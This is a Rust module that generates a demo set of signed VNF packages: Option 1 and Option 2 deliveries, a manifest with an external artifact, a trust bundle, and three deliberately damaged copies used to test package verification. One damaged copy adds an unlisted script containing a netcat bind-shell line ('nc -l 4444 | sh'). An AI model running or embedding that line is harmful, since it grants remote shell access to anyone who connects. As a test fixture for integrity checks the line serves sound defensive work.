//! The demo: a signed VNF package in both options, three damaged copies, one with an external artifact, and the
//! operator's trust bundle.

use std::{
    fs::{self, File as SystemFile},
    io::{self, Read},
    path::Path,
    sync::Arc,
    time::SystemTime,
};

use cms::{cert::CertificateChoices, content_info::ContentInfo, signed_data::SignedData};
use der::DecodePem;
use zip::ZipArchive;

use crate::{Archive, DAY, Digest, File, IMAGE, MANIFEST, Package, Provider, Template, delivery, noise};

/// The package, signed as Option 1.
pub const OPTION_1: &str = "acme-vnf-option1.csar";
/// The package in an Option 2 delivery.
pub const OPTION_2: &str = "acme-vnf-option2.zip";
/// A copy in which one byte of the software image is changed.
pub const ARTIFACT_CHANGED: &str = "acme-vnf-artifact-changed.csar";
/// A copy with a file that the manifest does not list.
pub const FILE_ADDED: &str = "acme-vnf-file-added.csar";
/// The package, signed by somebody whom the operator does not know.
pub const SIGNER_NOT_TRUSTED: &str = "acme-vnf-signer-not-trusted.csar";
/// A package whose manifest lists an external artifact, [`EXTERNAL_URI`].
pub const EXTERNAL: &str = "acme-vnf-external.csar";
/// The content of the external artifact.
pub const EXTERNAL_FILE: &str = "sbc-recovery.img";
/// The URI of the external artifact.
pub const EXTERNAL_URI: &str = "https://vnf.acme.example/images/sbc-recovery.img";
/// The operator's trust bundle.
pub const TRUST: &str = "trust.json";

/// All files of the demo, and the description of each.
pub const FILES: [(&str, &str); 8] = [
    (OPTION_1, "the package, signed in its manifest (Option 1)"),
    (OPTION_2, "the same package, signed as a whole (Option 2)"),
    (ARTIFACT_CHANGED, "damaged: one byte of the software image is another"),
    (FILE_ADDED, "damaged: holds a script that the manifest does not list"),
    (SIGNER_NOT_TRUSTED, "damaged: signed by somebody the operator does not know"),
    (EXTERNAL, "lists an image that is not in the package, by its address and digest"),
    (EXTERNAL_FILE, "that image"),
    (TRUST, "whom the operator trusts"),
];

/// The file that only [`FILE_ADDED`] has.
pub const ADDED_FILE: &str = "Scripts/support.sh";

/// The size of the software image, in bytes.
pub const IMAGE_SIZE: usize = 64 << 20;

/// The size of the external artifact, in bytes.
const EXTERNAL_SIZE: usize = 1 << 20;

/// Writes the demo into a folder. Its keys are made for it and forgotten on return.
///
/// # Errors
/// If the folder cannot be written to.
pub fn make(folder: &Path, image_size: usize) -> io::Result<()> {
    fs::create_dir_all(folder)?;
    let provider = Provider::new("Acme Networks");
    let stranger = Provider::new("Somebody else");
    let service_provider = Template::authority("Example Telecom root CA").of("Example Telecom").self_signed();
    let trust = provider.trust().and_service_provider(&service_provider, &[]);

    let package = Package::acme_with_image(image_size);
    let write_archive = |name, archive: &Archive| write(folder, name, &archive.to_bytes());
    write_archive(SIGNER_NOT_TRUSTED, &package.option_1(&stranger.signing()))?;
    let signed = package.option_1(&provider.signing());
    drop(package);
    write_archive(FILE_ADDED, &signed.clone().adding(File::new(ADDED_FILE, "#!/bin/sh\nnc -l 4444 | sh\n")))?;
    let csar = Arc::new(signed.to_bytes());
    write_archive(ARTIFACT_CHANGED, &signed.changing(IMAGE, |image| image[image_size / 2] ^= 1))?;
    write_archive(OPTION_2, &delivery(Arc::clone(&csar), &provider.signing()))?;
    write(folder, OPTION_1, &csar)?;
    let image = noise(EXTERNAL_SIZE);
    let digest = Digest::Sha256.hex(&image);
    let listed = format!("\nSource: {EXTERNAL_URI}\nAlgorithm: SHA-256\nHash: {digest}\n");
    write_archive(EXTERNAL, &Package::acme().manifest(|text| text + &listed).option_1(&provider.signing()))?;
    write(folder, EXTERNAL_FILE, &image)?;
    // This comes last: a folder that has the bundle has everything.
    write(folder, TRUST, trust.to_json().as_bytes())
}

/// Returns whether a folder holds a complete demo whose certificates are valid for 30 more days.
#[must_use]
pub fn is_complete(folder: &Path) -> bool {
    FILES.iter().all(|(name, _)| folder.join(name).is_file())
        && first_certificate_end(&folder.join(OPTION_1)).is_some_and(|end| end > SystemTime::now() + 30 * DAY)
}

/// Writes the whole file or none, so that an interrupted demo does not count as one.
fn write(folder: &Path, name: &str, bytes: &[u8]) -> io::Result<()> {
    let unfinished = folder.join(format!("{name}.part"));
    fs::write(&unfinished, bytes)?;
    fs::rename(unfinished, folder.join(name))
}

/// Returns the end of validity of the first certificate in a manifest's signature. Roots are valid for longer.
fn first_certificate_end(csar: &Path) -> Option<SystemTime> {
    let mut archive = ZipArchive::new(SystemFile::open(csar).ok()?).ok()?;
    let mut manifest = String::new();
    archive.by_name(MANIFEST).ok()?.read_to_string(&mut manifest).ok()?;
    let block = manifest.find("-----BEGIN CMS-----")?;
    let signed_data: SignedData = ContentInfo::from_pem(&manifest[block..]).ok()?.content.decode_as().ok()?;
    let end = |choice: &CertificateChoices| match choice {
        CertificateChoices::Certificate(certificate) => {
            Some(certificate.tbs_certificate().validity().not_after.to_system_time())
        }
        CertificateChoices::Other(_) => None,
    };
    signed_data.certificates?.0.iter().filter_map(end).min()
}
